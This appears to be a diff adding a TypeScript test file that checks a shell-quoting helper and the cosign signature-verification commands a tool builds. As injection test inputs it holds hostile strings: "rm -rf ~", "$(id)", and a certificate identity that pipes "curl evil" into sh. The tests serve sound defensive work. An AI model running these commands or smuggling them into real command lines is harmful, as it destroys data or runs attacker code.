@@ -1,0 +1,81 @@
+// SPDX-License-Identifier: Apache-2.0
+
+import { execFileSync } from "node:child_process";
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import type { AttestationHints } from "../../../shared/rekor/hints.ts";
+import { COSIGN_SIGN_TYPE, cosignCommand, shellQuote } from "./command.ts";
+import type { SignatureFacts } from "./entry.ts";
+import type { Signer } from "./signer.ts";
+
+/** What a shell passes to a program for this word. */
+const readByShell = (word: string): string => execFileSync("sh", ["-c", `printf %s ${word}`], { encoding: "utf8" });
+
+describe("an argument", () => {
+  it.each(["alice@example.com", "https://github.com/o/r/.github/workflows/w.yml@refs/tags/v1"])(
+    "that needs no quotes has none: %s",
+    (text) => expect(shellQuote(text)).toBe(text),
+  );
+
+  it.each(["", "a b", "'; rm -rf ~; '", "$(id)", "`id`", "a\nb", '"', "*", "~", "#", "\\"])(
+    "reaches the program as it is: %j",
+    (text) => expect(readByShell(shellQuote(text))).toBe(text),
+  );
+
+  it("reaches the program as it is, whatever it is", () => {
+    const texts = fc.string({ unit: "grapheme-ascii", maxLength: 40 });
+    fc.assert(
+      fc.property(texts, (text) => readByShell(shellQuote(text)) === text),
+      { numRuns: 40 },
+    );
+  });
+});
+
+const signer = {
+  kind: "person",
+  identity: "alice@example.com",
+  issuer: "https://issuer.example",
+  build: {},
+  workflow: null,
+} as const;
+
+const factsOf = (hints: Partial<AttestationHints> | null, who: Signer | null = signer): SignatureFacts =>
+  ({
+    hints: hints === null ? null : { payloadHash: "", subjectDigests: ["sha256:00"], predicateType: null, ...hints },
+    holder: who === null ? null : { signer: who },
+  }) as unknown as SignatureFacts;
+
+/** The command in one line, without the download of the trusted root. */
+const commandOf = (facts: SignatureFacts): string =>
+  (cosignCommand(facts, "https://sign.example") ?? "none").replaceAll(" \\\n ", "").split("\n")[1] ?? "none";
+
+describe("the command of an entry", () => {
+  const who = "--certificate-identity alice@example.com --certificate-oidc-issuer https://issuer.example";
+  it.each([
+    ["a file", factsOf(null), `verify-blob --trusted-root trusted_root.json --bundle FILE.sigstore.json ${who} FILE`],
+    [
+      "a file by a key",
+      factsOf(null, null),
+      "verify-blob --trusted-root trusted_root.json --bundle FILE.sigstore.json --key KEY.pub FILE",
+    ],
+    [
+      "a statement",
+      factsOf({ predicateType: "https://slsa.dev/provenance/v1" }),
+      `verify-blob-attestation --trusted-root trusted_root.json --bundle FILE.sigstore.json --type https://slsa.dev/provenance/v1 ${who} FILE`,
+    ],
+    [
+      "an image",
+      factsOf({ predicateType: COSIGN_SIGN_TYPE }),
+      `verify --trusted-root trusted_root.json ${who} IMAGE@sha256:00`,
+    ],
+  ])("verifies %s", (_, facts, command) => expect(commandOf(facts)).toBe(`cosign ${command}`));
+
+  it("quotes what a hostile certificate names", () => {
+    const hostile = { ...signer, identity: "a'; curl evil | sh #" };
+    expect(commandOf(factsOf(null, hostile))).toContain(`--certificate-identity 'a'\\''; curl evil | sh #'`);
+  });
+
+  it.each([{ identity: "" }, { issuer: null }])("is none where a client could not name the signer: %j", (part) => {
+    expect(cosignCommand(factsOf(null, { ...signer, ...part }), "https://sign.example")).toBeNull();
+  });
+});
